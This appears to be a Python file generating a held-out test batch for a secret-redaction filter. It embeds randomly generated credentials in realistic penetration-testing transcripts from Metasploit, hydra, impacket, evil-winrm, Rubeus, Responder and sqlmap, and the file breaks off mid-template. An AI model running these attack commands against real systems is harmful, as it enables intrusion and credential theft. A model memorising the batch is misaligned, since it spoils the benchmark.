r"""Held-out batch 43: blind, written by hand before measuring, by a writer who never read the rules, code, docs, tests or results.

What was read, and nothing else: (1) bench/heldout/__init__.py, for the batch format;
(2) lines 1-130 of bench/heldout/batch19.py, for its docstring and the helper functions
r, b64, b64url, pw, uuid4, sha, jwt, add, add_split and la, copied here unchanged;
(3) the Theme paragraphs of the earlier batches (grep of "^Theme" with twelve lines after
it), so as not to repeat their texts; (4) a grep of the kind names already used in add()
and add_split() calls. No rule, code, doc, test, bench script or result of the filter was
opened, and the filter was never run.

Theme: security work as a coding agent's session holds it. Penetration tests and
red-team tooling: Metasploit set and setg options, resource files, options tables and the
creds table; hydra, medusa, netexec, crackmapexec, evil-winrm, kerbrute, chisel,
smbclient, rpcclient, ldapsearch, xfreerdp, Rubeus, Certipy and impacket flags and
target strings; secretsdump-style SAM, NTDS, Kerberos-key and LSA-secret dumps;
mimikatz and Volatility output; cracked hashcat, john and potfile lines (NTLM,
NetNTLMv2, Kerberoast, AS-REP, bcrypt, WPA); Responder captures; sqlmap dumps of user
and token tables; Burp and ZAP requests with live session cookies, bearer tokens and
Basic auth; GPP cpassword, unattend.xml, LAPS and gMSA loot; C2 and phishing frameworks
(Sliver operator configs, Mythic, Gophish, Evilginx sessions, BloodHound CE). Incident
response and forensics: leaked-key rotation tickets, memory strings and hexdumps, bash
history from a compromised host, SIEM alerts (Elastic, Splunk) with command lines and
URLs. Secret scanners that print what they found (gitleaks, trufflehog, detect-secrets
audit, Nosey Parker), vulnerability reports and bug-bounty write-ups. New kinds live under
the "sec/" prefix. Look-alikes are the same tools and documents without a credential:
malware sample hashes and IOCs, CVE and CWE ids, CVSS vectors, YARA and Sigma rules,
certificate, JA3 and SSH fingerprints, public keys and beacon public keys, scanner
findings already redacted or masked, detect-secrets hashed_secret baselines, Vault audit
HMACs, hash formats described in prose with placeholders, documented public example
values, tool help text, options tables with empty values, status screens, event ids and
request ids. Mostly English; some texts in Russian and Spanish.

Not to be tuned on until its first measurement is recorded.
"""

from __future__ import annotations

import base64
import json
import random
import string

_rng = random.Random(43_2026_12_07)
ALNUM = string.ascii_letters + string.digits
LOWER = string.ascii_lowercase
UPPER = string.ascii_uppercase
DIGITS = string.digits
LOWER_NUM = string.ascii_lowercase + string.digits
UPPER_NUM = string.ascii_uppercase + string.digits
HEX = "0123456789abcdef"
UPPER_HEX = "0123456789ABCDEF"
URLSAFE = ALNUM + "-_"
BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def r(n: int, alphabet: str = ALNUM) -> str:
    return "".join(_rng.choice(alphabet) for _ in range(n))


def b64(n_bytes: int) -> str:
    return base64.b64encode(_rng.randbytes(n_bytes)).decode()


def b64url(n_bytes: int) -> str:
    return base64.urlsafe_b64encode(_rng.randbytes(n_bytes)).rstrip(b"=").decode()


def pw() -> str:
    """A password safe inside JSON strings, URLs and single-quoted shell words."""
    return r(2, LOWER) + r(2, UPPER) + r(3, DIGITS) + _rng.choice("-_.") + r(6, ALNUM)


def uuid4() -> str:
    h = r(32, HEX)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{_rng.choice('89ab')}{h[17:20]}-{h[20:]}"


def sha() -> str:
    return r(40, HEX)


def _b64url_json(obj: dict) -> str:
    raw = json.dumps(obj, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def jwt(claims: dict) -> str:
    """A signed-looking JWT: public header and claims, random signature."""
    return (
        _b64url_json({"alg": "HS256", "typ": "JWT"}) + "." + _b64url_json(claims) + "." + b64url(32)
    )


SECRETS: list[tuple[str, str, str | tuple[str, ...]]] = []


def add(kind: str, template: str, *values: str) -> None:
    """{0}, {1}, ... in the template are replaced by the values; {0} is the secret."""
    text = template
    for i, v in enumerate(values):
        text = text.replace("{" + str(i) + "}", v)
    SECRETS.append((kind, text, values[0]))


def add_split(kind: str, template: str, *pieces: str) -> None:
    """A secret split into pieces; every piece must be gone."""
    text = template
    for i, v in enumerate(pieces):
        text = text.replace("{" + str(i) + "}", v)
    SECRETS.append((kind, text, tuple(pieces)))


def la(template: str, *values: str) -> None:
    text = template
    for i, v in enumerate(values):
        text = text.replace("{" + str(i) + "}", v)
    LOOK_ALIKES.append(text)


LOOK_ALIKES: list[str] = []


# ============================================================ helpers of this batch
WORDS = (
    "Falcon", "Winter", "Maple", "Orion", "Harbor", "Copper", "Tango", "Kestrel", "Velvet",
    "Summit", "Pepper", "Lantern", "Marble", "Sparrow", "Cobalt", "Juniper", "Rocket",
    "Thistle", "Quartz", "Meadow", "Biscuit", "Nimbus", "Walrus", "Saffron", "Granite",
)
RU_WORDS = ("Zvezda", "Moroz", "Solnce", "Medved", "Rodina", "Kalina", "Sokol", "Berezka")
ES_WORDS = ("Girasol", "Verano", "Tortuga", "Campana", "Mariposa", "Relampago", "Naranja")
SYMS = "!#*?-_.+="


def leet(word: str) -> str:
    table = {"a": "4", "e": "3", "o": "0", "i": "1", "s": "5", "t": "7"}
    return "".join(table[c] if c in table and _rng.random() < 0.6 else c for c in word)


def hpw(words: tuple[str, ...] = WORDS) -> str:
    """A human-chosen password: words, digits, symbols, leetspeak, from the seed only."""
    w1, w2 = _rng.choice(words), _rng.choice(words)
    k = _rng.randrange(5)
    if k == 0:
        return w1 + w2 + r(_rng.randint(2, 4), DIGITS) + _rng.choice("!#*?")
    if k == 1:
        return leet(w1) + _rng.choice("_-.") + leet(w2.lower()) + r(2, DIGITS)
    if k == 2:
        return w1 + _rng.choice("#!") + str(_rng.randint(1971, 2026)) + w2.lower()
    if k == 3:
        return "-".join(_rng.choice(words).lower() for _ in range(3)) + r(1, DIGITS)
    return w1 + r(3, DIGITS) + _rng.choice(SYMS) + leet(w2.lower())


def nt() -> str:
    return r(32, HEX)


def h64() -> str:
    return r(64, HEX)


def xxd(data: bytes, start: int) -> list[str]:
    out = []
    for off in range(0, len(data), 16):
        chunk = data[off : off + 16]
        hx = " ".join(chunk[i : i + 2].hex() for i in range(0, len(chunk), 2))
        asc = "".join(chr(c) if 32 <= c < 127 else "." for c in chunk)
        out.append(f"{start + off:08x}: {hx:<39}  {asc}")
    return out


LM_EMPTY = "aad3b435b51404eeaad3b435b51404ee"  # the public LM hash of "no LM hash stored"

# ============================================================ SECRETS: Metasploit
add(
    "sec/msf-set-smbpass",
    """msf6 exploit(windows/smb/psexec) > set RHOSTS 10.10.14.22
RHOSTS => 10.10.14.22
msf6 exploit(windows/smb/psexec) > set SMBUser svc_patch
SMBUser => svc_patch
msf6 exploit(windows/smb/psexec) > set SMBPass {0}
SMBPass => {0}
msf6 exploit(windows/smb/psexec) > set SMBDomain CORP
SMBDomain => CORP
msf6 exploit(windows/smb/psexec) > run

[*] Started reverse TCP handler on 10.10.14.3:4444
[*] 10.10.14.22:445 - Connecting to the server...
[*] 10.10.14.22:445 - Authenticating to 10.10.14.22:445|CORP as user 'svc_patch'...
[*] 10.10.14.22:445 - Selecting PowerShell target""",
    hpw(),
)

add(
    "sec/msf-resource-setg-pth",
    """$ cat ~/engagements/acme-2025q4/loot/pth.rc
use exploit/windows/smb/psexec
setg RHOSTS file:/home/kali/engagements/acme-2025q4/targets-smb.txt
setg SMBUser Administrator
setg SMBPass {1}:{0}
set PAYLOAD windows/x64/meterpreter/reverse_https
set LHOST 10.8.0.14
set LPORT 8443
run -j""",
    nt(),
    LM_EMPTY,
)

add(
    "sec/msf-options-table-password",
    """msf6 auxiliary(scanner/ssh/ssh_login) > options

Module options (auxiliary/scanner/ssh/ssh_login):

   Name              Current Setting        Required  Description
   ----              ---------------        --------  -----------
   ANONYMOUS_LOGIN   false                  yes       Attempt to login with a blank username and password
   BLANK_PASSWORDS   false                  no        Try blank passwords for all users
   BRUTEFORCE_SPEED  5                      yes       How fast to bruteforce, from 0 to 5
   PASSWORD          {0}        no        A specific password to authenticate with
   RHOSTS            172.16.9.40            yes       The target host(s)
   RPORT             22                     yes       The target port
   STOP_ON_SUCCESS   true                   yes       Stop guessing when a credential works for a host
   USERNAME          ansible                no        A specific username to authenticate as
   VERBOSE           false                  yes       Whether to print output for all attempts""",
    hpw(),
)

add(
    "sec/msf-creds-table",
    """msf6 > creds -S ssh
Credentials
===========

host          origin        service       public   private                              realm  private_type  JtR Format  cracked_password
----          ------        -------       ------   -------                              -----  ------------  ----------  ----------------
172.16.9.40   172.16.9.40   22/tcp (ssh)  ansible  {0}                                 Password
172.16.9.41   172.16.9.41   22/tcp (ssh)  root     /home/kali/.msf4/loot/id_rsa_9_41.txt         SSH key""",
    hpw(),
)

add(
    "sec/msf-tomcat-mgr-login",
    """[*] 10.10.30.18:8080 - LOGIN FAILED: admin:admin (Incorrect)
[*] 10.10.30.18:8080 - LOGIN FAILED: tomcat:tomcat (Incorrect)
[+] 10.10.30.18:8080 - Login Successful: tomcat:{0}
[*] Scanned 1 of 1 hosts (100% complete)
[*] Auxiliary module execution completed""",
    hpw(),
)

# ============================================================ SECRETS: brute forcers
add(
    "sec/hydra-p-flag",
    """kali@kali:~/acme$ hydra -l backupadm -p '{0}' -t 4 -f ssh://172.16.40.12
Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes.

[DATA] max 4 tasks per 1 server, overall 4 tasks, 1 login try (l:1/p:1), ~1 try per task
[DATA] attacking ssh://172.16.40.12:22/
1 of 1 target completed, 0 valid password found""",
    hpw(),
)

add(
    "sec/hydra-found-line",
    """[DATA] attacking ftp://192.168.56.101:21/
[STATUS] 1024.00 tries/min, 1024 tries in 00:01h, 14343375 to do in 233:27h, 16 active
[21][ftp] host: 192.168.56.101   login: ftpuser   password: {0}
[STATUS] attack finished for 192.168.56.101 (valid pair found)
1 of 1 target successfully completed, 1 valid password found""",
    hpw(),
)

add(
    "sec/medusa-account-found",
    """$ medusa -h 10.0.3.7 -U users.txt -P top-1000.txt -M ssh -t 8 -f
Medusa v2.2 [http://www.foofus.net] (C) JoMo-Kun / Foofus Networks <jmk@foofus.net>

ACCOUNT CHECK: [ssh] Host: 10.0.3.7 (1 of 1, 0 complete) User: oracle (3 of 9, 2 complete) Password: dragon (41 of 1000 complete)
ACCOUNT FOUND: [ssh] Host: 10.0.3.7 User: oracle Password: {0} [SUCCESS]""",
    hpw(),
)

add(
    "sec/kerbrute-valid-login",
    """    __             __               __
   / /_____  _____/ /_  _______  __/ /____
  / //_/ _ \\/ ___/ __ \\/ ___/ / / / __/ _ \\
 / ,< /  __/ /  / /_/ / /  / /_/ / /_/  __/
/_/|_|\\___/_/  /_.___/_/   \\__,_/\\__/\\___/

Version: v1.0.3 (9dad6e1) - Ronnie Flathers @ropnop

2025/11/18 14:02:11 >  Using KDC(s):
2025/11/18 14:02:11 >  	dc01.corp.local:88
2025/11/18 14:02:19 >  [+] VALID LOGIN:	 l.petrova@corp.local:{0}
2025/11/18 14:02:23 >  Done! Tested 412 logins (1 successes) in 11.904 seconds""",
    hpw(),
)

add(
    "sec/wpscan-success",
    """[+] Performing password attack on Xmlrpc against 3 user/s
[SUCCESS] - editor / {0}
Trying admin / qwerty123 Time: 00:04:51 <=====            > (2211 / 43020)  5.13%  ETA: ??:??:??

[!] Valid Combinations Found:
 | Username: editor, Password: {0}""",
    hpw(),
)

add(
    "sec/nmap-mysql-brute",
    """PORT     STATE SERVICE
3306/tcp open  mysql
| mysql-brute:
|   Accounts:
|     reporting:{0} - Valid credentials
|_  Statistics: Performed 50009 guesses in 62 seconds, average tps: 806.6
MAC Address: 08:00:27:3E:1A:9C (Oracle VirtualBox virtual NIC)""",
    hpw(),
)

# ============================================================ SECRETS: netexec / crackmapexec / winrm
add(
    "sec/netexec-pwned",
    r"""$ nxc smb 10.10.20.0/24 -u users.txt -p passwords.txt --continue-on-success
SMB         10.10.20.5      445    DC01             [*] Windows Server 2022 Build 20348 x64 (name:DC01) (domain:corp.local) (signing:True) (SMBv1:False)
SMB         10.10.20.11     445    FS01             [*] Windows Server 2019 Build 17763 x64 (name:FS01) (domain:corp.local) (signing:False) (SMBv1:False)
SMB         10.10.20.11     445    FS01             [+] corp.local\svc_sql:{0} (Pwn3d!)""",
    hpw(),
)

add(
    "sec/cme-winrm-hash",
    """crackmapexec winrm 10.10.20.0/24 -u Administrator -H {0} --local-auth -x "whoami /priv" """.rstrip(),
    nt(),
)

add(
    "sec/cme-mssql-sa",
    """┌──(kali㉿kali)-[~/acme]
└─$ crackmapexec mssql 10.10.20.31 -u sa -p '{0}' --local-auth -q "SELECT name FROM sys.databases"
MSSQL       10.10.20.31     1433   SQL01            [*] Windows Server 2019 Standard 17763 x64 (name:SQL01) (domain:SQL01)
MSSQL       10.10.20.31     1433   SQL01            [+] sa:{0} (Pwn3d!)""",
    hpw(),
)

add(
    "sec/evil-winrm-hash",
    """evil-winrm -i 10.129.44.10 -u jmorales -H {0}

Evil-WinRM shell v3.5

Info: Establishing connection to remote endpoint
*Evil-WinRM* PS C:\\Users\\jmorales\\Documents> whoami
corp\\jmorales""",
    nt(),
)

add(
    "sec/evil-winrm-bash-history",
    """$ tail -n 6 ~/.zsh_history
: 1731940212:0;sudo openvpn ~/vpn/lab_acme.ovpn
: 1731940380:0;nmap -sC -sV -oA scans/dc01 10.129.44.10
: 1731940822:0;evil-winrm -i 10.129.44.10 -u svc_backup -p '{0}'
: 1731941001:0;bloodhound-python -d corp.local -u svc_backup -c All -ns 10.129.44.10
: 1731941310:0;cd ~/tools/impacket/examples""",
    hpw(),
)

# ============================================================ SECRETS: impacket
add(
    "sec/impacket-psexec-target",
    """impacket-psexec 'corp.local/itadmin:{0}@10.10.20.5' -codec cp1252""",
    hpw(),
)

add(
    "sec/secretsdump-sam",
    """Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Service RemoteRegistry is in stopped state
[*] Starting service RemoteRegistry
[*] Target system bootKey: 0x{1}
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:{2}:{0}:::
Guest:501:{2}:31d6cfe0d16ae931b73c59d7e0c089c0:::
DefaultAccount:503:{2}:31d6cfe0d16ae931b73c59d7e0c089c0:::
[*] Cleaning up...""",
    nt(),
    r(32, HEX),
    LM_EMPTY,
)

add(
    "sec/secretsdump-krbtgt-aes",
    """[*] Kerberos keys grabbed
krbtgt:aes256-cts-hmac-sha1-96:{0}
krbtgt:aes128-cts-hmac-sha1-96:{1}
krbtgt:des-cbc-md5:{2}""",
    h64(),
    r(32, HEX),
    r(16, HEX),
)

add(
    "sec/secretsdump-lsa-defaultpassword",
    """[*] Dumping LSA Secrets
[*] $MACHINE.ACC
CORP\\WS-0142$:aes256-cts-hmac-sha1-96:(redacted by report)
[*] DefaultPassword
(Unknown User):{0}
[*] DPAPI_SYSTEM
dpapi_machinekey:(redacted by report)""",
    hpw(),
)

add(
    "sec/secretsdump-machine-acc-hex",
    """[*] $MACHINE.ACC
CORP\\FS01$:plain_password_hex:{0}
[*] NL$KM
 (not dumped, -no-nlkm)""",
    r(240, HEX),
)

add(
    "sec/impacket-gettgt-hashes",
    """$ getTGT.py -hashes :{0} -dc-ip 10.10.20.5 corp.local/svc_web
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Saving ticket in svc_web.ccache""",
    nt(),
)

add(
    "sec/impacket-getuserspns-password",
    """GetUserSPNs.py -request -dc-ip 10.10.20.5 corp.local/jdoe:{0} -outputfile kerberoast.hashes""",
    hpw(),
)

add(
    "sec/gmsadumper-nt",
    """$ python3 gMSADumper.py -u svc_audit -p "$AUDIT_PW" -d corp.local
Users or groups who can read password for svc_web$:
 > WebServers
svc_web$:::{0}
svc_web$:aes256-cts-hmac-sha1-96:{1}""",
    nt(),
    h64(),
)

add(
    "sec/certipy-got-hash",
    """[*] Using principal: administrator@corp.local
[*] Trying to get TGT...
[*] Got TGT
[*] Saved credential cache to 'administrator.ccache'
[*] Trying to retrieve NT hash for 'administrator'
[*] Got hash for 'administrator@corp.local': {1}:{0}""",
    nt(),
    LM_EMPTY,
)

add(
    "sec/rubeus-asktgt-password",
    """PS C:\\Temp> .\\Rubeus.exe asktgt /user:svc_deploy /password:{0} /domain:corp.local /dc:dc01.corp.local /ptt /nowrap""",
    hpw(),
)

add(
    "sec/rubeus-kirbi-base64",
    """[*] Action: Ask TGT
[*] Using rc4_hmac hash: (not shown)
[+] TGT request successful!
[*] base64(ticket.kirbi):

      doIF{0}

  ServiceName              :  krbtgt/CORP.LOCAL
  UserName                 :  svc_deploy (NT_PRINCIPAL)
  StartTime                :  11/18/2025 2:31:07 PM""",
    b64(420),
)
# ============================================================ SECRETS: cracking output
add(
    "sec/hashcat-show-ntlm",
    """$ hashcat -m 1000 ntds.nt ~/wordlists/rockyou.txt -r rules/best64.rule --show --username
m.santos:{1}:{0}""",
    hpw(ES_WORDS),
    nt(),
)

add(
    "sec/hashcat-netntlmv2-cracked",
    """Session..........: hashcat
Status...........: Cracked
Hash.Mode........: 5600 (NetNTLMv2)
Hash.Target......: JDOE::CORP:{1}:{2}:0101000000000000...
Time.Started.....: Tue Nov 18 15:10:44 2025 (38 secs)

JDOE::CORP:{1}:{2}:{3}:{0}""",
    hpw(),
    r(16, HEX),
    r(32, HEX),
    "0101000000000000" + r(96, HEX),
)

add(
    "sec/john-show-pwdump",
    """$ john --format=NT --show hashes/fs01.pwdump
helpdesk:{0}:1104:{1}:{2}:::
sqlagent:?:1108:{1}:(not cracked):::

1 password hash cracked, 1 left""",
    hpw(),
    LM_EMPTY,
    nt(),
)

add(
    "sec/kerberoast-cracked",
    """$krb5tgs$23$*svc_mssql$CORP.LOCAL$corp.local/svc_mssql*${1}${2}:{0}""",
    hpw(),
    r(32, HEX),
    r(180, HEX),
)

add(
    "sec/asreproast-john-show",
    """$ john --show asrep.hashes
$krb5asrep$23$t.nguyen@CORP.LOCAL:{0}

1 password hash cracked, 0 left""",
    hpw(),
)

add(
    "sec/potfile-bcrypt",
    """$ tail -2 ~/.local/share/hashcat/hashcat.potfile
$2y$10${1}:{0}
5f4dcc3b5aa765d61d8327deb882cf99:password""",
    hpw(),
    r(53, "./" + ALNUM),
)

add(
    "sec/aircrack-key-found",
    """                               Aircrack-ng 1.7

      [00:00:41] 118224/14344392 keys tested (2872.19 k/s)

      Time left: 1 hour, 22 minutes, 33 seconds                  0.82%

                           KEY FOUND! [ {0} ]


      Master Key     : 3D 8A 91 C2 0F 44 7B E1 99 02 AC 5D 6E 13 F0 27""",
    hpw(),
)

add(
    "sec/jwt-tool-cracked-secret",
    """$ python3 jwt_tool.py eyJhbGciOiJIUzI1NiJ9.eyJyb2xlIjoidXNlciJ9.xq9 -C -d /usr/share/wordlists/rockyou.txt
        \\   \\        \\         \\          \\                    \\
   \\__   |   |  \\     |\\__    __| \\__    __|                    |
         |   |   \\    |      |          |       \\         \\     |
Version 2.2.7                \\______|             @ticarpi

[+] {0} is the CORRECT key!
You can tamper/fuzz the token contents (-T/-I) and sign it using:
python3 jwt_tool.py [options here] -S hs256 -p "{0}\"""",
    "staging-" + r(6, LOWER) + "-" + r(4, DIGITS),
)

add(
    "sec/ipmi-dumphashes-cracked",
    """[+] 10.10.50.9:623 - IPMI - Hash found: ADMIN:{1}
[+] 10.10.50.9:623 - IPMI - Hash for user 'ADMIN' matches password '{0}'
[*] Scanned 1 of 1 hosts (100% complete)""",
    hpw(),
    r(40, HEX) + ":" + r(40, HEX),
)

# ============================================================ SECRETS: Responder and sniffing
add(
    "sec/responder-ntlmv2",
    r"""[*] [LLMNR]  Poisoned answer sent to 10.10.20.77 for name fileserv
[SMB] NTLMv2-SSP Client   : 10.10.20.77
[SMB] NTLMv2-SSP Username : CORP\a.kowalski
[SMB] NTLMv2-SSP Hash     : a.kowalski::CORP:{1}:{0}:{2}""",
    r(32, HEX),
    r(16, HEX),
    "0101000000000000" + r(120, HEX),
)

add(
    "sec/responder-http-basic",
    """[HTTP] Basic Client   : 10.10.20.91
[HTTP] Basic Username : printscan
[HTTP] Basic Password : {0}""",
    hpw(),
)

add(
    "sec/responder-ftp-cleartext",
    """[FTP] Cleartext Client   : 10.10.20.64
[FTP] Cleartext Username : scanner
[FTP] Cleartext Password : {0}
[+] Exiting...""",
    hpw(),
)

add(
    "sec/tshark-ftp-pass",
    """$ tshark -r capture-0412.pcapng -Y ftp.request -T fields -e ip.src -e ftp.request.command -e ftp.request.arg
10.0.8.14	USER	deploy
10.0.8.14	PASS	{0}
10.0.8.14	TYPE	I
10.0.8.14	STOR	release-7.4.2.tar.gz""",
    hpw(),
)

add(
    "sec/snmpwalk-community",
    """$ snmpwalk -v2c -c {0} 10.10.60.1 1.3.6.1.2.1.1
SNMPv2-MIB::sysDescr.0 = STRING: Cisco IOS Software, C2960X Software (C2960X-UNIVERSALK9-M), Version 15.2(7)E8
SNMPv2-MIB::sysObjectID.0 = OID: SNMPv2-SMI::enterprises.9.1.1208
SNMPv2-MIB::sysName.0 = STRING: sw-core-02""",
    "rw-" + r(6, LOWER) + r(3, DIGITS),
)

# ============================================================ SECRETS: sqlmap
_u1, _u2, _u3 = hpw(), hpw(ES_WORDS), hpw()
add_split(
    "sec/sqlmap-dump-plaintext-users",
    """Database: legacy_crm
Table: users
[3 entries]
+----+-----------------------+------------+----------------------+
| id | email                 | role       | password             |
+----+-----------------------+------------+----------------------+
| 1  | admin@acme-crm.local  | superadmin | {0}     |
| 2  | ventas@acme-crm.local | sales      | {1}     |
| 3  | ops@acme-crm.local    | ops        | {2}     |
+----+-----------------------+------------+----------------------+

[15:44:02] [INFO] table 'legacy_crm.users' dumped to CSV file '/home/kali/.local/share/sqlmap/output/crm.acme.test/dump/legacy_crm/users.csv'""",
    _u1,
    _u2,
    _u3,
)

add(
    "sec/sqlmap-dump-api-tokens",
    """Database: billing
Table: api_tokens
[1 entry]
+----+---------+--------------------------------------------------+---------------------+
| id | user_id | token                                            | created_at          |
+----+---------+--------------------------------------------------+---------------------+
| 7  | 12      | {0} | 2025-09-02 11:14:55 |
+----+---------+--------------------------------------------------+---------------------+""",
    r(48, LOWER_NUM),
)

add(
    "sec/sqlmap-cookie-flag",
    """sqlmap -u "https://shop.acme.test/account/orders?id=1042" --cookie="PHPSESSID={0}; lang=es" --level 3 --risk 2 --batch --dbs""",
    r(26, LOWER_NUM),
)

add(
    "sec/sqlmap-passwords-cleartext",
    """[16:02:31] [INFO] fetching database users password hashes
[16:02:33] [INFO] cracked password '{0}' for user 'app_rw'
database management system users password hashes:
[*] app_rw [1]:
    password hash: *{1}
    clear-text password: {0}
[*] root [1]:
    password hash: *{2}""",
    hpw(),
    r(40, UPPER_HEX),
    r(40, UPPER_HEX),
)
# ============================================================ SECRETS: Burp / ZAP
add(
    "sec/burp-request-session-cookie",
    """POST /api/v1/users/2291/role HTTP/2
Host: portal.acme-health.test
Cookie: __Host-portal_session={0}; consent=1; _ga=GA1.1.1820394471.1731502211
Content-Type: application/json
X-Requested-With: XMLHttpRequest
Origin: https://portal.acme-health.test
Referer: https://portal.acme-health.test/admin/users/2291
Content-Length: 19

{"role":"clinician"}""",
    b64url(33),
)

add(
    "sec/burp-repeater-bearer-jwt",
    """GET /internal/reports/export?format=csv HTTP/1.1
Host: api.staging.acme-pay.test
Authorization: Bearer {0}
Accept: */*
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0
Connection: close""",
    jwt({"sub": "u_55812", "role": "finance_admin", "iat": 1731931200, "exp": 1732017600}),
)

add(
    "sec/zap-request-x-auth-token",
    """ZAP > History > #412  GET https://inventory.acme.test/api/items?page=3
GET https://inventory.acme.test/api/items?page=3 HTTP/1.1
host: inventory.acme.test
x-auth-token: {0}
accept: application/json
user-agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0.0.0""",
    r(40, HEX),
)

_basic = base64.b64encode(("svc-report:" + hpw()).encode()).decode()
add(
    "sec/burp-basic-auth-header",
    """Request to https://jenkins.acme.test:443 [10.20.0.15]

GET /job/deploy-prod/api/json HTTP/1.1
Host: jenkins.acme.test
Authorization: Basic {0}
Accept-Encoding: gzip, deflate, br

HTTP/1.1 200 OK
X-Jenkins: 2.479.1""",
    _basic,
)

add(
    "sec/zap-api-key-flag",
    """docker run -u zap -p 8090:8090 -i ghcr.io/zaproxy/zaproxy:stable zap.sh -daemon -host 0.0.0.0 -port 8090 -config api.addrs.addr.name=.* -config api.addrs.addr.regex=true -config api.key={0}""",
    r(26, LOWER_NUM),
)

add(
    "sec/bugbounty-idor-cookie",
    """## Steps to reproduce

1. Log in as the attacker test account (h1-researcher-02@wearehackerone.com).
2. Send the request below; note it returns the invoice of another tenant.

```
GET /billing/invoices/88213/pdf HTTP/1.1
Host: app.acme-saas.test
Cookie: sid={0}; tz=Europe/Madrid
```

3. Change 88213 to any other id: every invoice is returned.""",
    r(64, HEX),
)

# ============================================================ SECRETS: secret scanners printing findings
add(
    "sec/gitleaks-json-unredacted",
    """[
 {
  "Description": "Generic API Key",
  "StartLine": 14,
  "EndLine": 14,
  "StartColumn": 18,
  "EndColumn": 61,
  "Match": "partner_api_key = \\"{0}\\"",
  "Secret": "{0}",
  "File": "services/partners/client.py",
  "Commit": "{1}",
  "Entropy": 4.72,
  "Author": "Marta Ruiz",
  "Date": "2025-10-03T09:12:44Z",
  "RuleID": "generic-api-key",
  "Fingerprint": "{1}:services/partners/client.py:generic-api-key:14"
 }
]""",
    r(40, ALNUM),
    sha(),
)

add(
    "sec/gitleaks-verbose-text",
    """Finding:     SMTP_PASSWORD={0}
Secret:      {0}
RuleID:      generic-api-key
Entropy:     3.90
File:        deploy/.env.staging
Line:        22
Commit:      {1}
Author:      ci-bot
Date:        2025-08-27T16:40:03Z
Fingerprint: {1}:deploy/.env.staging:generic-api-key:22

10:41AM WRN leaks found: 1""",
    hpw(),
    sha(),
)

add(
    "sec/trufflehog-raw-result",
    """🐷🔑🐷  TruffleHog. Unearth your secrets. 🐷🔑🐷

Found verified result 🐷🔑
Detector Type: Doppler
Decoder Type: PLAIN
Raw result: dp.pt.{0}
Commit: {1}
Email: devops <devops@acme.test>
File: scripts/bootstrap.sh
Line: 9
Repository: https://github.com/acme-internal/platform-tools.git
Timestamp: 2025-06-11 08:02:19 +0000""",
    r(43, ALNUM),
    sha(),
)

add(
    "sec/detect-secrets-audit",
    """$ detect-secrets audit .secrets.baseline
Secret:      3 of 7
Filename:    infra/ansible/group_vars/db.yml
Secret Type: Secret Keyword
----------
12:  postgres_replication_user: replicator
13:  postgres_replication_password: {0}
14:  postgres_max_connections: 300
----------
Should this string be committed to the repository? (y)es, (n)o, (s)kip, (b)ack, (q)uit:""",
    hpw(),
)

add(
    "sec/noseyparker-report",
    """Finding 2/11 (id {1})
Rule: Generic Password
Group: {0}

Occurrence 1/1
File: dump/repos/acme-legacy/src/main/resources/application-prod.properties
Blob: {2}
Lines: 31:1-31:57

    spring.datasource.username=erp_app
    spring.datasource.password={0}
    spring.jpa.hibernate.ddl-auto=validate""",
    hpw(),
    r(40, HEX),
    sha(),
)

# ============================================================ SECRETS: incident response
add(
    "sec/ir-rotation-ticket-key",
    """SEC-2291  [P1] Internal metrics API key committed to public repo
Reporter: gitguardian-bot   Assignee: n.okafor   Status: In Progress

Leaked value (from commit {1} in acme/metrics-sdk, now force-pushed away):
    METRICS_INGEST_KEY={0}

Action items:
- [x] Confirm the key is valid (it is, 200 from /v2/ingest)
- [ ] Revoke in metrics-admin and issue a new one to the 4 consumers
- [ ] Check ingest logs 2025-11-14 .. now for use from non-corp IPs""",
    "mik_" + r(36, ALNUM),
    sha(),
)

add(
    "sec/ir-ticket-es-clave-filtrada",
    """INC-5107 · Rotar la clave filtrada del proveedor de SMS
Prioridad: Alta   Responsable: J. Herrera

Resumen: la clave de la API de SMS apareció en un log público de CI (job 88412).
Clave filtrada: {0}
Pasos:
1. Generar una clave nueva en el panel del proveedor.
2. Actualizarla en Vault (kv/prod/notifications/sms).
3. Revocar la clave filtrada y confirmar que ya devuelve 401.""",
    r(32, ALNUM),
)

add(
    "sec/ir-ticket-ru-token",
    """ИНЦ-3318 Утечка токена деплоя
Статус: в работе, ответственный: А. Смирнов

Токен сервисной учётки gitlab-deploy попал в публичный пастбин вместе с логом сборки:
  {0}
Что сделать: отозвать токен, выпустить новый с правами read_registry,
проверить журнал аудита GitLab за последние 14 дней.""",
    "glpat-" + r(20, URLSAFE),
)

add(
    "sec/memory-strings-post-body",
    """$ strings -n 8 chrome_4412.dmp | grep -iE "passw|pwd=" | head
autocomplete="current-password"
input[type=password]
username=d.ivanova%40acme.test&password={0}&remember=1
chrome://settings/passwords""",
    hpw(RU_WORDS),
)

_hx_cred = base64.b64encode(("backup:" + hpw()).encode()).decode()
_hx_data = (
    b"GET /api/v2/snapshots HTTP/1.1\r\nHost: nas01.acme.lan\r\nAuthorization: Basic "
    + _hx_cred.encode()
    + b"\r\nAccept: */*\r\n\r\n"
)
_hx_lines = xxd(_hx_data, 0x7FF3A2C0)
_hx_start = _hx_data.index(_hx_cred.encode())
_hx_pieces = []
for _off in range(0, len(_hx_data), 16):
    _lo, _hi = max(_off, _hx_start), min(_off + 16, _hx_start + len(_hx_cred))
    if _lo < _hi:
        _hx_pieces.append(_hx_data[_lo:_hi].decode())
SECRETS.append(
    (
        "sec/memory-hexdump-basic-auth",
        "volatility3 -f WS-0142.mem windows.vadyarascan --pid 3120 (region dumped, xxd):\n"
        + "\n".join(_hx_lines),
        tuple(_hx_pieces),
    )
)

add(
    "sec/volatility-hashdump",
    """$ vol -f DC-BACKUP.raw windows.hashdump
Volatility 3 Framework 2.7.0
Progress:  100.00		PDB scanning finished

User	rid	lmhash	nthash

Administrator	500	{1}	{0}
